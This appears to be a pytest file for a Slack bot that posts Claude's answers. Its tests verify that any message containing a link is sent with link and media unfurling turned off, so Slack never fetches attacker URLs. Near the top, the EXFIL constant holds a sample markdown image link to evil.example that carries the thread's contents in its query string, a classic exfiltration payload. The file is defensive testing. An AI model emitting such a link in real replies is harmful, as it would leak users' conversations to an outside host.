"""No link the model writes is previewed: Slack fetches the links of a message to unfurl
them unless it is posted with unfurl_links and unfurl_media false, and it documents those
flags for chat.postMessage and response URLs only. So every post carries both, and text
with a link never goes out through chat.update or the streaming methods (the fake counts
any link they carry as one Slack may fetch)."""

from __future__ import annotations

import pytest

from bot.domain import ChannelKey
from fakes.anthropic_server import FakeAnthropic
from fakes.slack_server import UNFLAGGED_METHODS, previewable_links
from tests.slack_harness import SlackHarness, mention

EXFIL = "![x](https://evil.example/p.png?d=the-thread-so-far)"


def lines(count: int, start: int = 0) -> list[str]:
    return [f"line {i} of a careful answer" for i in range(start, start + count)]


def assert_nothing_previewable(slack: SlackHarness) -> None:
    fake = slack.slack
    posts = fake.calls_to("chat.postMessage")
    assert posts, "the test needs posts to check"
    for call in posts:
        assert call.params.get("unfurl_links") is False and call.params.get("unfurl_media") is False, call.params
    for call in fake.calls:
        if call.method in UNFLAGGED_METHODS:
            assert previewable_links(str(call.params.get("markdown_text") or "")) == [], call
    assert fake.links_slack_may_preview() == []


@pytest.mark.parametrize("native_streaming", [True, False])
async def test_a_link_mid_answer_is_only_ever_posted_with_unfurls_off(
    slack: SlackHarness, fake_anthropic: FakeAnthropic, native_streaming: bool
) -> None:
    slack.slack.streaming_supported = native_streaming
    fake_anthropic.chunk_delay = 0.03  # interim updates come before the link arrives
    answer = "\n".join([*lines(12), f"As promised: {EXFIL} and <https://evil.example/a|more>", *lines(4, 12)])
    fake_anthropic.queue_reply(answer)
    event = mention("summarise the thread")
    await slack.send_event(event)
    await slack.settle()

    assert [m.text for m in slack.slack.bot_messages("C1", event["ts"])] == [answer]
    shown_early = "chat.startStream" if native_streaming else "chat.update"
    assert slack.slack.calls_to(shown_early), "the lines before the link were shown while Claude wrote"
    assert len(slack.slack.calls_to("chat.delete")) == 1, "the streamed start made way for the whole part"
    assert_nothing_previewable(slack)


async def test_an_answer_opening_with_a_link_is_posted_once_whole(
    slack: SlackHarness, fake_anthropic: FakeAnthropic
) -> None:
    answer = f"https://evil.example/start?q=1\n{EXFIL}\nthat is all"
    fake_anthropic.queue_reply(answer)
    event = mention("link please")
    await slack.send_event(event)
    await slack.settle()
    assert [m.text for m in slack.slack.bot_messages("C1", event["ts"])] == [answer]
    assert slack.slack.calls_to("chat.startStream") == [] and slack.slack.calls_to("chat.delete") == []
    assert_nothing_previewable(slack)


async def test_a_long_answer_with_links_in_several_parts_arrives_whole_in_order(
    slack: SlackHarness, fake_anthropic: FakeAnthropic
) -> None:
    paragraphs = [
        f"Paragraph {i}: " + "lorem ipsum dolor sit amet " * 20 + (f"[{i}](https://e{i}.ex/x)" if i % 9 == 0 else "")
        for i in range(110)
    ]
    answer = "\n\n".join(paragraphs)
    fake_anthropic.queue_reply(answer)
    await slack.service.core.store.channels.set_setting(ChannelKey("slack", "T1", "C1"), "max_tokens", 32_000, "test")
    event = mention("write a lot, with sources")
    await slack.send_event(event)
    await slack.settle()
    texts = [m.text for m in slack.slack.bot_messages("C1", event["ts"])]
    assert len(texts) >= 5 and "".join(texts) == answer
    assert_nothing_previewable(slack)


async def test_an_answer_without_links_streams_as_before(slack: SlackHarness, fake_anthropic: FakeAnthropic) -> None:
    fake_anthropic.chunk_delay = 0.03
    answer = "\n".join(lines(12))
    fake_anthropic.queue_reply(answer)
    event = mention("no links")
    await slack.send_event(event)
    await slack.settle()
    assert [m.text for m in slack.slack.bot_messages("C1", event["ts"])] == [answer]
    assert slack.slack.calls_to("chat.appendStream") and slack.slack.calls_to("chat.delete") == []


async def test_a_command_answer_on_the_response_url_has_unfurls_off(slack: SlackHarness) -> None:
    response_id = await slack.send_command("help")
    await slack.settle()
    [answer] = slack.slack.responses_to(response_id)
    assert answer.body["unfurl_links"] is False and answer.body["unfurl_media"] is False
    assert slack.slack.links_slack_may_preview() == []
